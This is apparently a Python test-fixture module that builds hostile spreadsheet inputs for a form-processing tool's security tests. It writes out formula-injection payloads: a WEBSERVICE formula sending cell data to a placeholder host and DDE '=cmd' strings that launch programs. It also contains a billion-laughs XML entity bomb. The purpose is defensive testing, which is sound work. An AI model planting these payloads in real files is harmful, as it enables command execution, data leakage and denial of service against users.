"""Hostile inputs shared by the security tests: a correct form whose cells, sheet name and file
name carry spreadsheet formulas, and raw .xlsx packages built part by part."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

WEBSERVICE = '=WEBSERVICE("http://127.0.0.1:9/?"&A1)'
DDE = "=cmd|' /C calc'!A0"
SHEET = '=HYPERLINK("#A1","x")'
FILE = "=cmd|'calc'!A0.xlsx"
PAYLOADS = (WEBSERVICE, DDE, SHEET, "=cmd|'calc'!A0")


def formula_form(correct: Path, folder: Path) -> Path:
    """The correct Phụ lục VII with two value cells holding formula text (typed as text, as a
    clerk's apostrophe stores it), its sheet renamed to a formula, saved under a formula name."""
    book = load_workbook(correct)
    sheet = book.active
    for ref, text in (("D7", WEBSERVICE), ("D9", DDE)):
        sheet[ref].value = text
        sheet[ref].data_type = "s"
    sheet.title = SHEET
    path = folder / FILE
    book.save(path)
    return path


CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
ROOT_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Dữ liệu" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def sheet_xml(rows: str, dimension: str | None = None) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return ('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"{dim}<sheetData>{rows}</sheetData></worksheet>")


def package(path: Path, sheet: str | bytes, **extra: str | bytes) -> Path:
    """A minimal .xlsx: the usual parts, `sheet` as its one worksheet, `extra` parts by name
    (a part given as None is left out)."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
             "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/worksheets/sheet1.xml": sheet}
    parts.update({name.replace("__", "/"): data for name, data in extra.items()})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if data is not None:
                archive.writestr(name, data)
    return path


def with_nested_entities_in_core_props(source: Path, target: Path) -> Path:
    """A copy of the workbook `source` whose docProps/core.xml nests entities (billion laughs):
    a part calamine never reads and openpyxl does (for the annotated copy)."""
    laughs = ('<?xml version="1.0"?><!DOCTYPE c [<!ENTITY a "aaaaaaaaaa">'
              + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
              + ']><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
              '<cp:keywords>&j;</cp:keywords></cp:coreProperties>')
    with zipfile.ZipFile(source) as package, zipfile.ZipFile(target, "w") as out:
        for info in package.infolist():
            out.writestr(info, laughs if info.filename == "docProps/core.xml" else package.read(info.filename))
    return target
